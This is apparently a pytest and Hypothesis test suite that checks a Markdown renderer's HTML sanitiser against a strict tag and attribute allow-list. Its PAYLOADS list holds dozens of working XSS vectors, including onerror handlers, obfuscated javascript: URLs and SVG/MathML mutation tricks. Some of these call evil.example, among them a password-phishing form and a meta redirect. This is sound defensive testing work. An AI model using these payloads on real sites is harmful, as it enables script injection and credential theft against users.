"""No text, however hostile, comes out of the pipeline as anything but the allow-list."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kb.text.markdown import render
from kb.text.sanitise import sanitise

# Written down again on purpose: a tag or attribute let in by the code must be let in here as well.
ALLOWED = {
    **{tag: set() for tag in ("br", "hr", "strong", "em", "b", "i", "s", "del", "code", "pre", "blockquote", "kbd")},
    **{
        tag: set()
        for tag in ("mark", "sub", "dl", "dt", "dd", "summary", "table", "caption", "thead", "tbody", "tfoot")
    },
    **{tag: {"id"} for tag in ("h2", "h3", "h4", "h5", "h6", "sup")},
    **{tag: {"align", "colspan", "rowspan"} for tag in ("th", "td")},
    **{tag: {"class"} for tag in ("p", "span", "ul")},
    "tr": set(),
    "details": {"open"},
    "ol": {"start"},
    "li": {"class", "id"},
    "a": {"href", "title", "rel", "class"},
    "img": {"src", "alt", "title", "width", "height"},
    "div": {"class", "role", "aria-label", "tabindex"},
    "input": {"type", "checked", "disabled", "aria-label"},
}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<input type=password autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='java&#2;script:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='/x' target=_blank onclick=alert(1) name=y id=location>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[x](https://a.example "onmouseover=alert(1) x=\\"")',
    '![x](x"onerror="alert(1))',
    "![x](javascript:alert(1))",
    "![x](/media/../admin/delete)",
    "![x](https://evil.example/pixel.gif)",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '``` {.python onclick="alert(1)" id="location"}\nx\n```',
    "# <img src=x onerror=alert(1)>",
    "# x {: onclick=alert(1) }",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: x',
    "> [!NOTE] <img src=x onerror=alert(1)>\n> <script>alert(1)</script>",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '!!! "><script>alert(1)</script>\n    x',
    "https://a.example/\"onmouseover=alert(1)'>x",
    "https://a.example/<script>alert(1)</script>",
    "\x02wzxhzdk:0\x03 <div onclick=alert(1)>x</div>",
    "\x02klzzwxh:0001\x03 *x*",
    "&#2;wzxhzdk:0&#3;",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<div\n\n<img src=x onerror=alert(1)>",
    "<p id=h-x><h2 id=location>x</h2><h3 id=h-ok>y</h3>",
    "{{<img src=x onerror=alert(1)>}}",
    "{{% raw %}}<script>alert(1)</script>{{% endraw %}}",
]


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.problems.append(f"<{tag}>")
            return
        for name, value in attrs:
            if name not in ALLOWED[tag]:
                self.problems.append(f"<{tag} {name}>")
            if name == "href" and not re.match(r"https?://[^/\\]|mailto:|/(?![/\\])|#|/$", value or "", re.IGNORECASE):
                self.problems.append(f"href {value!r}")
            if name == "src" and (not (value or "").startswith("/media/") or ".." in (value or "")):
                self.problems.append(f"src {value!r}")
            if name == "id" and not re.match(r"(h|fn|fnref)-", value or ""):
                self.problems.append(f"id {value!r}")
        self.open += [tag] if tag not in ("br", "hr", "img", "input") else []

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.problems.append(f"unbalanced </{tag}>")

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"instruction {data!r}")


def problems(html: str) -> list[str]:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.problems + [f"unclosed <{tag}>" for tag in reader.open]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "text {} text", "> {}", "- a\n  - {}", "<div>\n{}\n</div>"])
def test_a_payload_comes_out_harmless_wherever_it_stands(payload: str, frame: str) -> None:
    html = render(frame.replace("{}", payload)).html
    assert problems(html) == []
    assert "javascript:" not in re.sub(r">[^<]*<", "><", html).lower()


def test_the_reader_of_these_tests_sees_what_is_not_allowed() -> None:
    bad = [
        "<script>x</script>",
        "<p onclick=x>y</p>",
        '<a href="//e">x</a>',
        '<img src="http://e">',
        '<h2 id="x">y</h2>',
    ]
    assert all(problems(html) for html in [*bad, "<p>", "<!-- x -->", '<a href="javascript:x">x</a>'])


_markup = st.sampled_from(
    [
        *(
            "<",
            ">",
            '"',
            "'",
            "`",
            "```\n",
            "*",
            "_",
            "~~",
            "[",
            "]",
            "(",
            ")",
            "![",
            "](",
            "|",
            "\n|-|-|\n",
            "&#",
            ";",
            "&",
        ),
        *("\n", "\n\n", "    ", "  - ", "1. ", "> ", "> [!NOTE]\n", "!!! note\n    ", "# ", "[^1]", "\n[^1]: ", "\n: "),
        *(
            "<a href=",
            "<img src=",
            " onerror=x",
            "<svg>",
            "<style>",
            "<math>",
            "<p",
            "</p>",
            "<table>",
            "<td>",
            "<details>",
        ),
        *(
            "<summary>",
            "</details>",
            "<!--",
            "-->",
            "<h1 id=h-a>",
            "</h1>",
            "javascript:",
            "https://a.b/",
            "//",
            "/media/a",
        ),
        *(
            "\\",
            "\x02",
            "\x03",
            "\u202e",
            "\x00",
            "{{<",
            ">}}",
            "<input>",
            "<li>",
            "<pre>",
            "\t",
            "- [x] ",
            "<a>",
            "</a>",
        ),
    ]
)
_sources = st.lists(st.one_of(_markup, st.text(max_size=6)), max_size=24).map("".join)


@settings(max_examples=250, deadline=None)
@given(_sources)
def test_whatever_is_typed_only_the_allow_list_comes_out(source: str) -> None:
    html = render(source).html
    assert problems(html) == []
    assert sanitise(html) == html


@settings(max_examples=100, deadline=None)
@given(_sources)
def test_sanitising_twice_is_sanitising_once(source: str) -> None:
    once = sanitise(source)
    assert sanitise(once) == once


@pytest.mark.parametrize(
    ("written", "href"),
    [
        ("https://a.example/x?y=1#z", "https://a.example/x?y=1#z"),
        ("//a.example/x", "https://a.example/x"),
        ("/cards/7", "/cards/7"),
        ("/", "/"),
        ("#h-part", "#h-part"),
        ("mailto:help@a.example", "mailto:help@a.example"),
    ],
)
def test_an_address_a_reader_may_follow_is_kept(written: str, href: str) -> None:
    assert f'href="{href}"' in render(f"[x]({written})").html


@pytest.mark.parametrize(
    "written",
    [
        "a/b.md",
        "../x",
        "x.html",
        "ftp://a.example",
        "javascript:x",
        "/\\evil.example",
        "\\\\evil.example",
        "https:evil.example",
        "https:///x",
        "http://",
        "file:///etc/passwd",
        "?q=1",
        "tel:1",
        "/\t/evil.example",
        "///",
        "https:\\\\evil.example",
    ],
)
def test_any_other_address_leaves_only_its_words(written: str) -> None:
    rendered = render(f'<a href="{written}">words</a>')
    assert "evil" not in rendered.html or 'href="https://evil.example"' in rendered.html
    assert rendered.text == "words"
    if "evil" not in rendered.html:
        assert "<a" not in rendered.html
        assert rendered.links == []


def test_every_link_carries_its_rel() -> None:
    assert 'rel="nofollow noopener noreferrer"' in render("https://a.example").html


@pytest.mark.parametrize("character", ["\x00", "\x02", "\x1b", "\x7f", "\x85", "\u202e", "\u2066", "\ufeff", "\ud800"])
def test_invisible_and_direction_changing_characters_are_stripped(character: str) -> None:
    rendered = render(f"exe{character}fdp and <b title='{character}'>&#{ord(character)};</b>")
    assert character not in rendered.html + rendered.text


def test_a_remote_picture_leaves_its_description() -> None:
    assert render("![A <b> map](https://evil.example/p.gif)").html == "<p>A &lt;b&gt; map</p>"
